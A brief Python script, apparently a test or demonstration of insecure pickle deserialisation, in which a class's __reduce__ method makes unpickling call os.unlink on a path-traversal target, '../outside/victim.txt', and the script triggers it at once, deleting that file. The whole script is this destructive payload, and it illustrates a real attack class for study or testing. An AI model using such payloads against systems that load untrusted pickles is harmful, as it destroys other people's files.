# A pickle calls what its reduction names.
# damage: deleted
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.unlink, ("../outside/victim.txt",)


pickle.loads(pickle.dumps(Payload()))
